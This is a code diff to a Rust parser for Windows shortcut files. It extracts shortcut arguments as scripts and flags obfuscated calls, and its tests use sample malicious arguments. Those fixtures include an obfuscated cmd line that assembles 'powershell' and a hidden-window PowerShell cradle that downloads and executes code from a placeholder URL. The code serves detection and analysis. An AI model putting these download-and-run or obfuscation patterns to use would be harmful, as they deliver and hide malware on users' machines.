@@ -1,14 +1,16 @@
 //! Shortcuts of Windows (MS-SHLLINK): what is started with which arguments, and what the machine left in them on which
 //! they were made.
 
+mod command;
+
 use crate::budget::Budget;
 use crate::bytes::{array, slice, u16_le, u32_le, u64_le};
 use crate::gather::{Gathered, text};
 use crate::names::{self, until_zero, utf16};
 use crate::ole::{class_text, time};
-use crate::reading::{Child, Reading};
+use crate::reading::{Child, Reading, Storage};
 use crate::unpack::damaged;
-use crate::vector::{State, vectors};
+use crate::vector::{State, Value, vectors};
 use model::Message;
 
 vectors! { "lnk":
@@ -59,9 +61,11 @@ pub fn read(bytes: &[u8], budget: &mut Budget) -> Reading {
     let mut at = HEADER_BYTES;
     if body(bytes, flags, &mut at, &mut reading).is_none() {
         reading.state(NAMESPACE, "target", State::Failed(damaged()), Some(at as u64));
+        command_line(budget, &mut reading);
         return reading;
     }
     let end = blocks(bytes, at, &mut reading);
+    command_line(budget, &mut reading);
     if end < bytes.len() {
         let count = i64::try_from(bytes.len() - end).unwrap_or(i64::MAX);
         reading.odd_at(Message::new("lnk.data-behind").number("bytes", count), end as u64);
@@ -129,6 +133,23 @@ fn arguments(value: &str, at: usize, reading: &mut Reading) {
     if blanks >= 16 {
         let count = i64::try_from(blanks).unwrap_or(i64::MAX);
         reading.odd_at(Message::new("lnk.padded-arguments").number("blanks", count), at as u64);
+    }
+}
+
+/// The arguments as a part, where they are a script of the program that is started.
+fn command_line(budget: &mut Budget, reading: &mut Reading) {
+    let text = |name| match reading.value(NAMESPACE, name) {
+        Some(Value::Text(text)) => Some(text.as_str()),
+        Some(Value::Texts(texts)) => texts.last().map(String::as_str),
+        _ => None,
+    };
+    let Some(arguments) = text("arguments") else { return };
+    // What is started is the first of these that is told; the others may be there to mislead whoever looks at it.
+    let programs = ["environment_target", "target", "items", "relative_path"];
+    let found = programs.iter().filter_map(|name| text(name)).find_map(|program| command::script(program, arguments));
+    if let Some(command::Script { extension, source }) = found {
+        // A limit is a fact by then.
+        let _ = reading.child(budget, Child::made(format!("arguments.{extension}"), source, Storage::Plain));
     }
 }
 
@@ -279,6 +300,65 @@ mod tests {
               txt 16
         "#]]
         .assert_eq(&tree(&part));
+    }
+
+    #[test]
+    fn what_a_shell_is_told_is_a_script() {
+        let check = |program: &str, arguments: &str, expected: expect_test::Expect| {
+            let mut bytes = vec![0_u8; 76];
+            bytes[..20].copy_from_slice(b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F");
+            bytes[20] = 0xa8;
+            for text in [program, arguments] {
+                bytes.extend((text.encode_utf16().count() as u16).to_le_bytes());
+                bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
+            }
+            bytes.extend([0; 4]);
+            let part = apart(&bytes);
+            let scripts = part.children.iter().map(|script| told(script, "script"));
+            expected.assert_eq(&(tree(&part) + &scripts.collect::<String>()));
+        };
+        check(
+            r"..\Windows\System32\cmd.exe",
+            "/c \"set x=power&& set y=sh^ell&& call %x%%y% -nop\"",
+            expect![[r#"
+            x | lnk 238
+              arguments.bat | txt 53
+                ! layer.hidden-calls calls=List(["powershell"])
+                put-together.bat | txt 56 | pieces
+            script.language = "batch"
+            script.lines = 2
+            script.longest_line = 45
+            script.entropy = 4.31
+            script.put_together = 3
+            script.hidden_calls = ["powershell"]
+            script.calls = ["cmd /c"]
+        "#]],
+        );
+        check(
+            r"..\powershell.exe",
+            "-w hidden -c \"&('I'+'EX') (New-Object Net.WebClient).('Down'+'loadString')('http://example.org/a')\"",
+            expect![[r#"
+                x | lnk 316
+                  arguments.ps1 | txt 109
+                    ! layer.hidden-calls calls=List(["downloadstring", "iex"])
+                    put-together.ps1 | txt 99 | pieces
+                script.language = "powershell"
+                script.lines = 2
+                script.longest_line = 84
+                script.entropy = 4.934
+                script.urls = ["http://example.org/a"]
+                script.put_together = 2
+                script.hidden_calls = ["downloadstring", "iex"]
+                script.calls = ["net.webclient", "-w hidden", "new-object", "powershell"]
+            "#]],
+        );
+        check(
+            r"..\notepad.exe",
+            "a.txt",
+            expect![[r#"
+            x | lnk 122
+        "#]],
+        );
     }
 
     #[test]
